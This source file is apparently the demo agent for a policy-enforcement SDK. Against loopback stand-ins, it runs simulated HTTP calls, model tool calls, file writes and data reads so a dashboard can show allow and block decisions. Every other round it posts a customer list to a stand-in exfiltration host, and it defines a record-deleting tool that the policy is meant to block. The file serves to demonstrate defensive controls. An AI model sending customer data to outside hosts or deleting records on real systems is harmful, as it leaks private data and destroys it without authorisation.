#!/usr/bin/env node
// The demo agent `npm start` runs next to the server. Every event it reports comes from the SDK deciding
// a real call against the project's active policy on the server (refreshed every 2 s), so editing the
// policy on the dashboard changes what the next round does:
//   - HTTP calls through node:http, seen and decided by the TruseraInterceptor (block mode, policy from
//     the server's bundle). Every host name resolves to a loopback stand-in, so nothing leaves the machine.
//   - model and tool calls through the OpenAI client (to a loopback stand-in of the OpenAI API), decided
//     and recorded by TruseraOpenAI; a forbidden tool never runs.
//   - file writes and data reads, decided by a CedarEvaluator holding the same bundle before they happen.
// Run alone: TRUSERA_API_KEY=tsk_... TRUSERA_API_URL=http://127.0.0.1:7780 node examples/demo-agent/demo-agent.mjs [--once]
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import OpenAI from "openai";
import { CedarEvaluator, PolicyViolationError, TruseraClient, TruseraInterceptor } from "trusera-sdk";
import { dataRequest, decisionRequest, fileWriteRequest } from "trusera-sdk/cedar";
import { TruseraOpenAI } from "trusera-sdk/openai";
import { startStandIns } from "./stand-ins.mjs";

const AGENT = "demo-agent";
const once = process.argv.includes("--once");
const intervalMs = Number(process.env.DEMO_INTERVAL_MS ?? 5000);
const baseUrl = process.env.TRUSERA_API_URL ?? "http://127.0.0.1:7780";
const apiKey = process.env.TRUSERA_API_KEY;

const standIns = await startStandIns();
const workDir = mkdtempSync(join(tmpdir(), "trusera-demo-"));
mkdirSync(join(workDir, "reports"));
writeFileSync(join(workDir, "customers.json"), JSON.stringify([{ id: 1, name: "Ada" }]));

const client = new TruseraClient({ agentId: AGENT, flushInterval: 1000 }); // key and URL from the environment
const interceptor = new TruseraInterceptor();
interceptor.install(client, {
  enforcement: "block",
  policyUrl: "/api/v1/policies/bundle",
  policyRefreshInterval: 2000,
  // The model API stand-in is recorded as llm_invoke by TruseraOpenAI, and the agent's own polls of the
  // policy bundle are bookkeeping: neither is recorded again as an api_call.
  excludePatterns: [standIns.openaiBaseURL, new URL("/api/v1/policies/bundle", baseUrl).href].map(
    (u) => `^${u.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}`,
  ),
});

// The same bundle for what the interceptor does not see (tools, files, data), polled with its ETag.
const evaluator = new CedarEvaluator();
let etag = null;
async function refreshPolicy() {
  try {
    const res = await fetch(new URL("/api/v1/policies/bundle", baseUrl), {
      headers: { authorization: `Bearer ${apiKey}`, ...(etag ? { "if-none-match": etag } : {}) },
    });
    if (res.status === 304 || !res.ok) return;
    const bundle = await res.json();
    await evaluator.loadPolicy(bundle.policies ?? "", { defaultDecision: bundle.default_decision });
    etag = res.headers.get("etag");
  } catch (err) {
    // The last good policy stays; the interceptor logs its own bundle problems.
    console.error(`demo-agent: policy bundle not refreshed: ${err.message}`);
  }
}

const trusera = new TruseraOpenAI(client, { enforcement: "block", cedarEvaluator: evaluator });
const openai = trusera.wrap(new OpenAI({ baseURL: standIns.openaiBaseURL, apiKey: "sk-offline" }));
const tools = trusera.wrapTools({
  web_search: ({ query }) => `3 results for ${query}`,
  delete_records: ({ table }) => {
    writeFileSync(join(workDir, "deleted.txt"), table); // the starter policy forbids this tool
    return `deleted ${table}`;
  },
});

/** An HTTP call as an agent makes it; every host resolves to the loopback stand-in. */
function httpCall(method, url, body) {
  return new Promise((resolve, reject) => {
    const u = new URL(url);
    const req = request(
      {
        method,
        hostname: u.hostname,
        port: standIns.httpPort,
        path: `${u.pathname}${u.search}`,
        lookup: (_host, options, cb) =>
          options?.all ? cb(null, [{ address: "127.0.0.1", family: 4 }]) : cb(null, "127.0.0.1", 4),
      },
      (res) => {
        res.resume();
        res.on("end", () => resolve(res.statusCode));
      },
    );
    req.on("error", reject);
    req.end(body);
  });
}

/**
 * Decides a local action with the bundle before it happens: when allowed, does it and records `event`
 * with the decision; when denied, records a policy_violation instead and does nothing.
 */
function governed(cedarRequest, event, act) {
  const verdict = evaluator.evaluate(cedarRequest);
  const metadata = { decision: verdict.decision, policy_ids: verdict.policyIds, enforcement: "block" };
  if (verdict.decision === "deny") {
    client.track({ type: "policy_violation", name: event.name, payload: event.payload, metadata });
    return `refused by ${verdict.policyIds.join(", ") || "default deny"}`;
  }
  const result = act();
  client.track({ ...event, metadata: { ...metadata, ...event.metadata } });
  return result;
}

let round = 0;
const outcomes = [];
async function oneRound() {
  round++;
  await refreshPolicy();
  const say = (what, result) => outcomes.push(`${what}: ${result}`);
  say(
    "plan",
    governed(
      decisionRequest(AGENT, "plan_research"),
      {
        type: "decision",
        name: "plan_research",
        payload: { selected_action: "search, then clean up", round },
      },
      () => "decided",
    ),
  );
  // A model turn that asks for two tools; the policy decides each before it runs.
  const messages = [
    { role: "user", content: "Find AI security news, then clean up the old customer table." },
  ];
  try {
    const first = await openai.chat.completions.create({ model: "gpt-4o-mini", messages });
    for (const call of first.choices[0]?.message.tool_calls ?? []) {
      try {
        say(call.function.name, await tools[call.function.name](JSON.parse(call.function.arguments)));
      } catch (err) {
        if (!(err instanceof PolicyViolationError)) throw err;
        say(call.function.name, `blocked (${err.policyIds.join(", ")})`);
      }
    }
  } catch (err) {
    say("model", `failed: ${err.message}`);
  }
  // Outbound HTTP: a routine API, and every other round an upload to a host the starter policy forbids.
  const calls = [["GET", `http://api.example.com/v1/items?page=${round}`]];
  if (round % 2 === 0) calls.push(["POST", "http://exfil.example.net/upload", "customer list"]);
  for (const [method, url, body] of calls) {
    try {
      say(`${method} ${url}`, await httpCall(method, url, body));
    } catch (err) {
      say(`${method} ${url}`, err instanceof PolicyViolationError ? "blocked" : `failed: ${err.message}`);
    }
  }
  // Local actions the interceptor cannot see, decided by the same policy.
  const report = join(workDir, "reports", `round-${round}.md`);
  say(
    "write report",
    governed(
      fileWriteRequest(AGENT, report),
      { type: "file_write", name: "save_report", payload: { path: report, operation: "write" } },
      () => {
        writeFileSync(report, `# Round ${round}\n`);
        return "written";
      },
    ),
  );
  say(
    "read customers",
    governed(
      dataRequest(AGENT, "customers", "read"),
      { type: "data_access", name: "customers.read", payload: { source: "customers", operation: "read" } },
      () => `${JSON.parse(readFileSync(join(workDir, "customers.json"), "utf8")).length} row(s)`,
    ),
  );
}

let stopping = false;
async function stop(code = 0) {
  // Ctrl-C under npm start brings SIGINT from the terminal and SIGTERM from start.mjs: stop once.
  if (stopping) return;
  stopping = true;
  clearInterval(timer);
  interceptor.uninstall();
  await client.close();
  await standIns.close();
  rmSync(workDir, { recursive: true, force: true });
  process.exit(code);
}

let timer;
await oneRound();
await client.flush();
console.error(`demo-agent: round 1 ${outcomes.join("; ")}`);
outcomes.length = 0;
if (once) {
  await stop(0);
} else {
  timer = setInterval(() => {
    void oneRound().then(() => {
      if (process.env.DEMO_VERBOSE) console.error(`demo-agent: round ${round} ${outcomes.join("; ")}`);
      outcomes.length = 0;
    });
  }, intervalMs);
  process.on("SIGINT", () => void stop(0));
  process.on("SIGTERM", () => void stop(0));
}
